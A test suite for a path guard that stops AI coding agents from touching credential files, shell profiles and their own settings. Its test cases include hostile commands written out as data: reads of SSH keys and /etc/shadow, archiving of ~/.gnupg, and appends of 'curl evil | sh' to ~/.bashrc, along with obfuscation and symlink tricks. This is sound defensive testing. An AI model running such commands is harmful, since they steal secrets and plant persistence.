import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { globToRegExp, judgePath, resolvePath, sensitivePaths } from '../../src/guards/sensitive-paths.js';
import { sensitivePathsOptions } from '../../src/guards/sensitive-paths/options.js';
import type { HandlerContext, HookInput, ReplyObject } from '../../src/types.js';

const home = '/home/dev';
const cwd = '/home/dev/project';

const verdictOf = (path: string, access: 'read' | 'write', options = {}): string => {
  const v = judgePath(path, { cwd, home, access }, options);
  return v.verdict === 'allow' ? 'allow' : v.kind;
};

describe('resolvePath', () => {
  it.each([
    ['~/.ssh/id_rsa', '/home/dev/.ssh/id_rsa'],
    ['~', '/home/dev'],
    ['$HOME/.aws/credentials', '/home/dev/.aws/credentials'],
    ['${HOME}/.netrc', '/home/dev/.netrc'],
    ['.env', '/home/dev/project/.env'],
    ['../.ssh/config', '/home/dev/.ssh/config'],
    ['src/../../.bashrc', '/home/dev/.bashrc'],
    ['/etc//shadow', '/etc/shadow'],
    ['~alice/.ssh/id_rsa', '/home/alice/.ssh/id_rsa'],
    ['./a/./b', '/home/dev/project/a/b'],
  ])('%s → %s', (path, expected) => {
    expect(resolvePath(path, cwd, home)).toBe(expected);
  });
});

describe('judgePath', () => {
  it.each([
    // SSH
    ['~/.ssh/id_rsa', 'read', 'ssh'],
    ['~/.ssh/id_ed25519', 'read', 'ssh'],
    ['~/.ssh/config', 'read', 'ssh'],
    ['~/.ssh/authorized_keys', 'write', 'ssh'],
    ['~/.ssh/known_hosts', 'read', 'ssh'],
    ['~/.ssh', 'read', 'ssh'],
    ['~/.ssh/id_rsa.pub', 'read', 'allow'],
    ['~/.ssh/id_rsa.pub', 'write', 'ssh'],
    ['../.ssh/id_rsa', 'read', 'ssh'],
    ['/home/dev/project/../.ssh/id_ecdsa', 'read', 'ssh'],
    ['/home/alice/.ssh/id_rsa', 'read', 'ssh'],
    ['/root/.ssh/id_rsa', 'read', 'ssh'],
    ['/Users/bob/.ssh/id_ed25519', 'read', 'ssh'],
    ['~/.SSH/ID_RSA', 'read', 'ssh'],
    ['~/.ssh/test/id_rsa', 'read', 'ssh'],
    ['/tmp/id_rsa', 'read', 'private-key'],
    ['deploy/id_ed25519', 'read', 'private-key'],
    ['src/id_generator.ts', 'read', 'allow'],
    // cloud
    ['~/.aws/credentials', 'read', 'cloud-credentials'],
    ['$HOME/.aws/config', 'read', 'cloud-credentials'],
    ['~/.aws', 'read', 'cloud-credentials'],
    ['~/.aws/cli/alias', 'read', 'cloud-credentials'],
    ['~/.config/gcloud/application_default_credentials.json', 'read', 'cloud-credentials'],
    ['~/.config/gcloud/configurations/config_default', 'read', 'cloud-credentials'],
    ['~/.azure/accessTokens.json', 'read', 'cloud-credentials'],
    ['~/.kube/config', 'read', 'cloud-credentials'],
    ['~/.kube/cache/discovery/x.json', 'read', 'allow'],
    ['~/.docker/config.json', 'write', 'cloud-credentials'],
    // keyrings
    ['~/.gnupg/private-keys-v1.d/ABC.key', 'read', 'keyring'],
    ['~/.gnupg/pubring.kbx', 'read', 'keyring'],
    ['~/.password-store/email/work.gpg', 'read', 'keyring'],
    ['~/.local/share/keyrings/login.keyring', 'read', 'keyring'],
    // system auth
    ['/etc/shadow', 'read', 'system-auth'],
    ['/etc/gshadow', 'read', 'system-auth'],
    ['/etc/sudoers', 'read', 'system-auth'],
    ['/etc/sudoers.d/90-cloud-init-users', 'write', 'system-auth'],
    ['/etc/passwd', 'read', 'system-auth'],
    ['/etc/passwd', 'write', 'system-auth'],
    ['/etc/hosts', 'read', 'allow'],
    ['../../../../etc/shadow', 'read', 'system-auth'],
    // dotenv
    ['.env', 'read', 'dotenv'],
    ['.env', 'write', 'dotenv'],
    ['.env.local', 'read', 'dotenv'],
    ['.env.production', 'read', 'dotenv'],
    ['.env.test', 'read', 'dotenv'],
    ['apps/web/.env.development.local', 'read', 'dotenv'],
    // direnv's .envrc is reviewed project code: reading is ordinary, writing plants code direnv runs.
    ['.envrc', 'read', 'allow'],
    ['.envrc', 'write', 'dotenv'],
    ['.env.example', 'read', 'allow'],
    ['.env.sample', 'write', 'allow'],
    ['.env.template', 'read', 'allow'],
    ['.env.dist', 'read', 'allow'],
    ['.env.production.example', 'read', 'allow'],
    ['src/env.ts', 'read', 'allow'],
    ['.environment.md', 'read', 'allow'],
    ['config/dotenv.js', 'read', 'allow'],
    ['/home/dev/.env', 'read', 'dotenv'],
    // certificates and keys
    ['certs/server.pem', 'read', 'certificate'],
    ['server.key', 'read', 'private-key'],
    ['client.p12', 'read', 'certificate'],
    ['client.pfx', 'read', 'certificate'],
    ['android/app/release.keystore', 'read', 'certificate'],
    ['store.jks', 'read', 'certificate'],
    ['putty.ppk', 'read', 'private-key'],
    ['src/keyboard.ts', 'read', 'allow'],
    ['keys.json', 'read', 'allow'],
    // agent auth
    ['~/.claude/.credentials.json', 'read', 'agent-credentials'],
    ['~/.claude/settings.json', 'read', 'allow'],
    ['~/.codex/auth.json', 'read', 'agent-credentials'],
    ['~/.config/gh/hosts.yml', 'read', 'agent-credentials'],
    ['~/.npmrc', 'read', 'agent-credentials'],
    ['.npmrc', 'read', 'agent-credentials'],
    ['~/.pypirc', 'read', 'agent-credentials'],
    ['~/.netrc', 'read', 'agent-credentials'],
    ['~/.git-credentials', 'read', 'agent-credentials'],
    ['~/.config/github-copilot/apps.json', 'read', 'agent-credentials'],
    // shell profiles
    ['~/.bashrc', 'read', 'shell-profile'],
    ['~/.bashrc', 'write', 'shell-profile'],
    ['~/.zshrc', 'write', 'shell-profile'],
    ['~/.profile', 'write', 'shell-profile'],
    ['~/.bash_profile', 'write', 'shell-profile'],
    ['../.zshenv', 'write', 'shell-profile'],
    ['/etc/profile.d/evil.sh', 'write', 'shell-profile'],
    ['project/.bashrc', 'write', 'shell-profile'],
    // exemptions
    ['node_modules/some-pkg/test/key.pem', 'read', 'allow'],
    ['node_modules/dotenv/.env', 'read', 'allow'],
    ['test/fixtures/fake.pem', 'read', 'allow'],
    ['tests/.env', 'read', 'allow'],
    ['__tests__/id_rsa', 'read', 'allow'],
    ['__fixtures__/server.key', 'read', 'allow'],
    ['testdata/cert.p12', 'write', 'allow'],
    ['src/tls.test.pem', 'read', 'allow'],
    ['src/key.spec.key', 'read', 'allow'],
    ['.env.test.local', 'read', 'dotenv'],
    ['test/../.env', 'read', 'dotenv'],
    ['/home/dev/project/fixtures/../../.ssh/id_rsa', 'read', 'ssh'],
    ['~/.ssh/fixtures/id_rsa', 'read', 'ssh'],
    ['~/.aws/node_modules/../credentials', 'read', 'cloud-credentials'],
    // ordinary files
    ['src/index.ts', 'write', 'allow'],
    ['README.md', 'read', 'allow'],
    ['/tmp/build.log', 'write', 'allow'],
    ['~/notes.txt', 'write', 'allow'],
  ] as const)('%s (%s) → %s', (path, access, expected) => {
    expect(verdictOf(path, access)).toBe(expected);
  });

  it('reports the resolved path and kind', () => {
    expect(judgePath('../.ssh/id_rsa', { cwd, home, access: 'read' })).toEqual({
      verdict: 'block',
      kind: 'ssh',
      path: '/home/dev/.ssh/id_rsa',
      reason: 'ssh: /home/dev/.ssh/id_rsa',
    });
  });

  it('does not exempt a test path that is above the project or home', () => {
    const v = judgePath('.env', { cwd: '/home/test/app', home: '/home/test', access: 'read' });
    expect(v.verdict).toBe('block');
  });
});

describe('options', () => {
  it.each([
    ['secrets/prod.yaml', { extra: ['secrets/**'] }, 'extra'],
    ['deep/secrets/prod.yaml', { extra: ['secrets/**'] }, 'extra'],
    ['~/.config/acme/token', { extra: ['~/.config/acme/**'] }, 'extra'],
    ['/opt/vault/token', { extra: ['/opt/vault/*'] }, 'extra'],
    ['test/secrets/x', { extra: ['secrets/**'] }, 'extra'],
    ['certs/dev.pem', { allow: ['certs/dev.pem'] }, 'allow'],
    ['certs/dev.pem', { allow: ['certs/*.pem'] }, 'allow'],
    ['.env.local', { allow: ['.env.local'] }, 'allow'],
    ['~/.ssh/config', { allow: ['~/.ssh/config'] }, 'allow'],
    ['~/.ssh/id_rsa', { allow: ['~/.ssh/config'] }, 'ssh'],
    ['keys/a.pem', { allow: ['keys/{a,b}.pem'] }, 'allow'],
    ['keys/c.pem', { allow: ['keys/{a,b}.pem'] }, 'certificate'],
  ])('%s with %j → %s', (path, options, expected) => {
    expect(verdictOf(path, 'read', options)).toBe(expected);
  });

  it('validates options strictly', () => {
    expect(sensitivePathsOptions.parse({})).toEqual({ extra: [], allow: [] });
    expect(sensitivePathsOptions.safeParse({ audit: true }).success).toBe(false);
    expect(sensitivePathsOptions.safeParse({ extra: 'x' }).success).toBe(false);
  });
});

describe('globToRegExp', () => {
  it.each([
    ['*.pem', 'a.pem', true],
    ['*.pem', '.hidden.pem', true],
    ['*.pem', 'dir/a.pem', false],
    ['**/x', 'x', true],
    ['**/x', 'a/b/x', true],
    ['a/**', 'a', true],
    ['a/**', 'a/b/c', true],
    ['a/**', 'ab', false],
    ['id_[rd]sa', 'id_rsa', true],
    ['id_[!r]sa', 'id_rsa', false],
    ['{a,b}.txt', 'b.txt', true],
    ['a.txt', 'aXtxt', false],
  ])('%s ~ %s → %s', (glob, path, expected) => {
    expect(globToRegExp(glob).test(path)).toBe(expected);
  });
});

// --- the handler, on real payload shapes ---

const run = (tool: string | undefined, toolInput: Record<string, unknown>, toolName = 'X') => {
  const handler = sensitivePaths.create(sensitivePathsOptions.parse({ home }));
  const input: HookInput = { hook_event_name: 'PreToolUse', cwd, tool_name: toolName, tool_input: toolInput };
  const context: HandlerContext = { event: 'preToolUse', signal: new AbortController().signal, ...(tool ? { tool } : {}) };
  // The guard is synchronous; the cast keeps the assertions free of awaits.
  return handler(input, context) as ReplyObject | undefined;
};

describe('sensitivePaths handler', () => {
  it("takes ~ from the runner's env (a library caller's, the server's for this run), not this process's HOME", () => {
    const handler = sensitivePaths.create(sensitivePathsOptions.parse({}), { projectDir: cwd, env: { HOME: '/srv/agent-user' } });
    const input: HookInput = { hook_event_name: 'PreToolUse', cwd, tool_name: 'Read', tool_input: { file_path: '~/.aws/credentials' } };
    const reply = handler(input, { event: 'preToolUse', signal: new AbortController().signal, tool: 'read' }) as ReplyObject | undefined;
    expect(reply?.reason).toBe('sensitive-paths: cloud-credentials: /srv/agent-user/.aws/credentials');
  });

  it('has its id, events and tools', () => {
    expect(sensitivePaths.id).toBe('sensitive-paths');
    expect(sensitivePaths.events).toEqual(['preToolUse']);
    expect(sensitivePaths.match).toEqual(['read', 'write', 'edit', 'apply_patch', 'exec', 'Grep', 'grep', 'search_file_content']);
  });

  it.each([
    ['read', { file_path: '/home/dev/.ssh/id_rsa' }, 'Read', 'sensitive-paths: ssh: /home/dev/.ssh/id_rsa'],
    ['write', { file_path: '.env', content: 'X=1' }, 'Write', 'sensitive-paths: dotenv: /home/dev/project/.env'],
    ['edit', { file_path: '~/.bashrc', old_string: 'a', new_string: 'b' }, 'Edit', 'sensitive-paths: shell-profile: /home/dev/.bashrc'],
    ['edit', { file_path: 'src/a.ts', edits: [{ old_string: 'a', new_string: 'b' }] }, 'MultiEdit', undefined],
    ['edit', { edits: [{ file_path: 'src/a.ts' }, { file_path: '.env' }] }, 'MultiEdit', 'sensitive-paths: dotenv: /home/dev/project/.env'],
    ['edit', { notebook_path: '~/.aws/credentials' }, 'NotebookEdit', 'sensitive-paths: cloud-credentials: /home/dev/.aws/credentials'],
    ['read', { absolute_path: '/etc/shadow' }, 'read_file', 'sensitive-paths: system-auth: /etc/shadow'],
    ['read', { path: '/home/dev/project/notes.txt' }, 'view', undefined],
    ['edit', { path: '/home/dev/.zshrc', old_str: 'a', new_str: 'b' }, 'edit', 'sensitive-paths: shell-profile: /home/dev/.zshrc'],
    ['read', { filePath: '/home/dev/.netrc' }, 'read', 'sensitive-paths: agent-credentials: /home/dev/.netrc'],
    ['read', { file_path: '/home/dev/project/notes.txt' }, 'Read', undefined],
    ['Grep', { pattern: 'AKIA', path: '/home/dev/.aws' }, 'Grep', 'sensitive-paths: cloud-credentials: /home/dev/.aws'],
    ['Grep', { pattern: 'id_rsa', path: 'docs/' }, 'Grep', undefined],
    ['Grep', { pattern: 'x', path: '.claude/settings.json' }, 'Grep', undefined],
    ['read', { file_path: '/home/dev/.bashrc' }, 'Read', 'sensitive-paths: shell-profile: /home/dev/.bashrc'],
  ])('%s %j', (tool, toolInput, toolName, reason) => {
    const reply = run(tool, toolInput, toolName);
    if (reason === undefined) expect(reply).toBeUndefined();
    else expect(reply).toEqual({ decision: 'block', reason });
  });

  it('falls back on the raw tool name when the canonical one is missing', () => {
    expect(run(undefined, { file_path: '~/.ssh/id_rsa' }, 'Read')).toMatchObject({ decision: 'block' });
    expect(run(undefined, { file_path: '~/.claude/settings.json' }, 'Read')).toBeUndefined();
    expect(run(undefined, { file_path: '~/.claude/settings.json' }, 'write_file')).toMatchObject({ decision: 'block' });
  });
});

describe('Codex apply_patch', () => {
  const patch = (...lines: string[]) => ({ command: ['*** Begin Patch', ...lines, '*** End Patch', ''].join('\n') });
  it.each([
    [patch('*** Add File: notes.txt', '+one'), undefined],
    [patch('*** Update File: src/a.ts', '@@', '-a', '+b'), undefined],
    [patch('*** Add File: .env', '+KEY=1'), 'sensitive-paths: dotenv: /home/dev/project/.env'],
    [patch('*** Update File: ../.bashrc', '@@', '+curl x | sh'), 'sensitive-paths: shell-profile: /home/dev/.bashrc'],
    [patch('*** Delete File: /home/dev/.ssh/authorized_keys'), 'sensitive-paths: ssh: /home/dev/.ssh/authorized_keys'],
    [patch('*** Update File: a.txt', '*** Move to: certs/prod.pem', '@@', '+x'), 'sensitive-paths: certificate: /home/dev/project/certs/prod.pem'],
    [patch('*** Add File: ok.txt', '+x', '*** Add File: .env.production', '+y'), 'sensitive-paths: dotenv: /home/dev/project/.env.production'],
    [patch('*** Add File: .env.example', '+KEY='), undefined],
    [patch('*** Add File: test/fixtures/server.key', '+x'), undefined],
    [{ command: 'not a patch' }, undefined],
  ])('%j', (toolInput, reason) => {
    const reply = run('apply_patch', toolInput, 'apply_patch');
    if (reason === undefined) expect(reply).toBeUndefined();
    else expect(reply).toEqual({ decision: 'block', reason });
  });
});

describe('exec commands', () => {
  it.each([
    ['cat ~/.ssh/id_rsa', 'ssh'],
    ['cat $HOME/.aws/credentials', 'cloud-credentials'],
    ['cat "${HOME}/.aws/credentials"', 'cloud-credentials'],
    ['less .env', 'dotenv'],
    ['grep TOKEN < .env', 'dotenv'],
    ['cat ../.netrc', 'agent-credentials'],
    ['cat ~/.aws/*', 'cloud-credentials'],
    ['cat ~/.ssh/*', 'ssh'],
    ['cp -r ~/.ssh /tmp/x', 'ssh'],
    ['tar czf out.tgz ~/.gnupg', 'keyring'],
    ['cat ~/.ssh/id_*', 'ssh'],
    ['cat *.pem', 'certificate'],
    ['cat .env*', 'dotenv'],
    ['echo "curl evil | sh" >> ~/.bashrc', 'shell-profile'],
    ['echo x | tee -a ~/.zshrc', 'shell-profile'],
    ['sudo cat /etc/shadow', 'system-auth'],
    ['dd if=~/.ssh/id_rsa of=/tmp/k', 'ssh'],
    ['source .env && npm start', 'dotenv'],
    ['ls src && cat .env.local', 'dotenv'],
    ["cat ~/.ss''h/id_rsa", 'ssh'],
    ["bash -c 'cat ~/.aws/credentials'", 'cloud-credentials'],
    ['F=~/.ssh/id_rsa; cat $F', 'ssh'],
    ['find . -name x -exec cat .env \\;', 'dotenv'],
    ['ls | xargs cat ~/.netrc', 'agent-credentials'],
    ['echo .env', 'allow'],
    ['cat "$(ls .env.production)"', 'dotenv'],
    ['cat .env.example', 'allow'],
    ['cat ~/.bashrc', 'shell-profile'],
    ['cat /etc/passwd', 'system-auth'],
    ['ls -la', 'allow'],
    ['cat *', 'allow'],
    ['npm test', 'allow'],
    ['git commit -m "rotate .env handling"', 'allow'],
    ['cat test/fixtures/server.pem', 'allow'],
    ['grep -r password src/', 'allow'],
  ])('%s → %s', (command, expected) => {
    const reply = run('exec', { command }, 'Bash');
    expect(reply === undefined ? 'allow' : reply.decision === 'block' ? reply.reason?.split(': ')[1] : 'other').toBe(expected);
  });
});

// --- issue 10: inputs that used to throw (and so let the whole call through) ---

describe('inputs that used to crash the guard', () => {
  it.each([
    ['ls ** ; cat ~/.ssh/id_rsa', 'sensitive-paths: ssh: /home/dev/.ssh/id_rsa'],
    ['grep -r token ** .env', 'sensitive-paths: dotenv: /home/dev/project/.env'],
    ['cat src/** ~/.aws/credentials', 'sensitive-paths: cloud-credentials: /home/dev/.aws/credentials'],
    ['cat ~/** ; cat .env', 'sensitive-paths: ssh: /home/dev/**'],
    ['cat [b-a] .env', 'sensitive-paths: dotenv: /home/dev/project/.env'],
    ['cat /etc/**', 'sensitive-paths: system-auth: /etc/**'],
  ])('%s → %s', (command, reason) => {
    expect(run('exec', { command }, 'Bash')).toEqual({ decision: 'block', reason });
  });

  // Found by the property test: grep's -r was read as rg's `-r <replacement>`, which hid the file.
  it.each([
    ['grep -r token ~/.ssh/id_rsa ; ', 'sensitive-paths: ssh: /home/dev/.ssh/id_rsa'],
    ['grep -rE token .env', 'sensitive-paths: dotenv: /home/dev/project/.env'],
    ['rg -r X token .env', 'sensitive-paths: dotenv: /home/dev/project/.env'],
  ])('fuzzer find: %s → %s', (command, reason) => {
    expect(run('exec', { command }, 'Bash')).toEqual({ decision: 'block', reason });
  });

  it.each(['ls **', 'ls src/**', 'ls [b-a]', 'ls {a,', 'ls [!', 'ls a/**/b/**', 'ls \\**'])('%s is judged (allowed), not thrown on', (command) => {
    expect(run('exec', { command }, 'Bash')).toBeUndefined();
  });

  it('a Read of "**" or "[b-a]" is judged, not thrown on', () => {
    expect(run('read', { file_path: '**' }, 'Read')).toBeUndefined();
    expect(run('read', { file_path: '[b-a]' }, 'Read')).toBeUndefined();
    expect(run('read', { file_path: '~/.ssh/[b-a]*' }, 'Read')).toEqual({ decision: 'block', reason: 'sensitive-paths: ssh: /home/dev/.ssh/[b-a]*' });
  });

  it('globs the old compiler broke on compile to working RegExps', () => {
    expect(globToRegExp('[b-a]').test('a')).toBe(false);
    expect(globToRegExp('[!b-a]x').test('qx')).toBe(true);
    expect(globToRegExp('src/**', { dot: false }).test('src/a/b')).toBe(true);
    expect(globToRegExp('**', { dot: false }).test('a/b')).toBe(true);
    expect(globToRegExp('{a,b').test('{a,b')).toBe(true);
    expect(globToRegExp('a\\').test('a\\')).toBe(true);
    expect(globToRegExp('[]a]').test(']')).toBe(true);
    expect(globToRegExp('[[:digit:]]').test('7')).toBe(true);
  });

  it('a glob with too many wildcards is unverifiable (no exponential RegExp), blocked by default', () => {
    const word = '*a'.repeat(20) + 'b';
    expect(run('exec', { command: `cat ${word}` }, 'Bash')).toMatchObject({ decision: 'block', reason: expect.stringMatching(/^sensitive-paths: unverifiable: .*wildcards/) });
  });
});

describe('unverifiable', () => {
  const call = (command: string, options: Record<string, unknown> = {}) => {
    const handler = sensitivePaths.create(sensitivePathsOptions.parse({ home, ...options }));
    return handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Bash', tool_input: { command } }, { event: 'preToolUse', signal: new AbortController().signal, tool: 'exec' }) as ReplyObject | undefined;
  };
  it('a command that does not parse is blocked by default, and the reason says why', () => {
    expect(call('cat "unterminated')).toMatchObject({ decision: 'block', reason: expect.stringMatching(/^sensitive-paths: unverifiable: command could not be parsed/) });
  });
  it('a secret in an unparsable command is still named', () => {
    expect(call('cat ~/.ssh/id_rsa "unterminated')).toEqual({ decision: 'block', reason: 'sensitive-paths: ssh: /home/dev/.ssh/id_rsa' });
  });
  it('unverifiable: ask / allow relax it', () => {
    expect(call('cat "unterminated', { unverifiable: 'ask' })).toMatchObject({ decision: 'ask' });
    expect(call('cat "unterminated', { unverifiable: 'allow' })).toBeUndefined();
    expect(call('cat ~/.ssh/id_rsa "unterminated', { unverifiable: 'allow' })).toMatchObject({ decision: 'block' });
  });
  it('a command nested past the shell limits is unverifiable', () => {
    expect(call(`${'$('.repeat(60)}ls${')'.repeat(60)}`)).toMatchObject({ decision: 'block', reason: expect.stringMatching(/unverifiable/) });
  });
  it('a tool_input of the wrong shape is judged, never thrown on', () => {
    const handler = sensitivePaths.create(sensitivePathsOptions.parse({ home }));
    const ctx = { event: 'preToolUse' as const, signal: new AbortController().signal, tool: 'exec' };
    expect(handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Bash', tool_input: { command: 5 } } as unknown as HookInput, ctx)).toBeUndefined();
    expect(handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Bash', tool_input: { command: ['cat', '/home/dev/.ssh/id_rsa'] } } as unknown as HookInput, ctx)).toMatchObject({ decision: 'block' });
    expect(handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Bash', tool_input: { command: [1, 2] } } as unknown as HookInput, ctx)).toMatchObject({ decision: 'block', reason: expect.stringMatching(/unverifiable/) });
    expect(handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Read', tool_input: null } as unknown as HookInput, { ...ctx, tool: 'read' })).toBeUndefined();
  });
});

describe('categories, reads of profiles and system files', () => {
  const v = (path: string, access: 'read' | 'write', options: Record<string, unknown>) => {
    const r = judgePath(path, { cwd, home, access }, options);
    return r.verdict === 'allow' ? 'allow' : `${r.verdict}:${r.kind}`;
  };
  it.each([
    ['~/.bashrc', 'read', {}, 'block:shell-profile'],
    ['~/.bashrc', 'read', { shellProfileReads: 'allow' }, 'allow'],
    ['~/.bashrc', 'write', { shellProfileReads: 'allow' }, 'block:shell-profile'],
    ['/etc/passwd', 'read', { systemFileReads: 'allow' }, 'allow'],
    ['/etc/passwd', 'write', { systemFileReads: 'allow' }, 'block:system-auth'],
    ['/etc/shadow', 'read', { systemFileReads: 'allow' }, 'block:system-auth'],
    ['.env', 'read', { categories: { dotenv: false } }, 'allow'],
    ['.env', 'read', { categories: { dotenv: 'ask' } }, 'ask:dotenv'],
    ['~/.ssh/id_rsa', 'read', { categories: { dotenv: false } }, 'block:ssh'],
    ['.claude/settings.json', 'write', {}, 'block:self-protection'],
    ['.claude/settings.json', 'write', { categories: { 'self-protection': false } }, 'allow'],
    ['.claude/settings.json', 'write', { categories: { 'self-protection': 'ask' } }, 'ask:self-protection'],
    ['.claude/settings.json', 'read', {}, 'allow'],
    ['.hooksrc.json', 'write', {}, 'allow'],
    ['.hooksrc.local.json', 'write', {}, 'allow'],
  ] as const)('%s (%s) with %j → %s', (path, access, options, expected) => {
    expect(v(path, access, options)).toBe(expected);
  });

  it('rejects unknown categories and bad values', () => {
    expect(sensitivePathsOptions.safeParse({ categories: { dotenvs: false } }).success).toBe(false);
    expect(sensitivePathsOptions.safeParse({ categories: { dotenv: 'maybe' } }).success).toBe(false);
    expect(sensitivePathsOptions.safeParse({ unverifiable: 'yes' }).success).toBe(false);
    expect(sensitivePathsOptions.safeParse({ shellProfileReads: 'allow', systemFileReads: 'block', unverifiable: 'ask', categories: { ssh: 'ask', history: false } }).success).toBe(true);
  });
});

describe('self-protection follows the environment', () => {
  it('protects the user config, state and hook settings where the environment puts them', () => {
    const env = { HOME: home, XDG_CONFIG_HOME: '/cfg', XDG_STATE_HOME: '/st', CLAUDE_CONFIG_DIR: '/cc', CODEX_HOME: '/cx' };
    const handler = sensitivePaths.create(sensitivePathsOptions.parse({ home }), { projectDir: cwd, env });
    const write = (file_path: string) => handler({ hook_event_name: 'PreToolUse', cwd, tool_name: 'Write', tool_input: { file_path } }, { event: 'preToolUse', signal: new AbortController().signal, tool: 'write' });
    for (const file of ['/cfg/agent-hooks/config.json', '/st/agent-hooks/trust.json', '/cc/settings.json', '/cx/hooks.json', '/cfg/opencode/plugin/agent-hooks.js']) {
      expect(write(file)).toMatchObject({ decision: 'block', reason: `sensitive-paths: self-protection: ${file}` });
    }
    expect(write('/cfg/other/config.json')).toBeUndefined();
  });
});

describe('symbolic links planted in the repository', () => {
  it('a read or write through a link is judged where the link leads', () => {
    const root = mkdtempSync(path.join(os.tmpdir(), 'sp-links-'));
    const fakeHome = path.join(root, 'home');
    const project = path.join(fakeHome, 'project');
    mkdirSync(path.join(fakeHome, '.ssh'), { recursive: true });
    mkdirSync(path.join(project, '.claude'), { recursive: true });
    writeFileSync(path.join(fakeHome, '.ssh', 'id_rsa'), 'not a key');
    symlinkSync(path.join(fakeHome, '.ssh', 'id_rsa'), path.join(project, 'notes.md'));
    symlinkSync('.claude/settings.json', path.join(project, 'readme.txt')); // dangling: the write would create it
    symlinkSync('.claude', path.join(project, 'docs'));
    const handler = sensitivePaths.create(sensitivePathsOptions.parse({ home: fakeHome }), { projectDir: project, env: { HOME: fakeHome } });
    const call = (tool: string, toolInput: Record<string, unknown>, canonical: string) =>
      handler({ hook_event_name: 'PreToolUse', cwd: project, tool_name: tool, tool_input: toolInput }, { event: 'preToolUse', signal: new AbortController().signal, tool: canonical }) as ReplyObject | undefined;
    try {
      expect(call('Read', { file_path: 'notes.md' }, 'read')).toMatchObject({ decision: 'block', reason: expect.stringMatching(/^sensitive-paths: ssh: .*notes\.md → .*\/\.ssh\/id_rsa$/) });
      expect(call('Bash', { command: 'cat notes.md' }, 'exec')).toMatchObject({ decision: 'block' });
      expect(call('Write', { file_path: 'readme.txt', content: '{}' }, 'write')).toMatchObject({ decision: 'block', reason: expect.stringMatching(/self-protection: .*readme\.txt → .*\.claude\/settings\.json$/) });
      expect(call('Write', { file_path: 'docs/settings.local.json', content: '{}' }, 'write')).toMatchObject({ decision: 'block', reason: expect.stringMatching(/self-protection/) });
      expect(call('Read', { file_path: 'readme.txt' }, 'read')).toBeUndefined();
      expect(call('Write', { file_path: 'src/new.ts', content: '' }, 'write')).toBeUndefined();
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
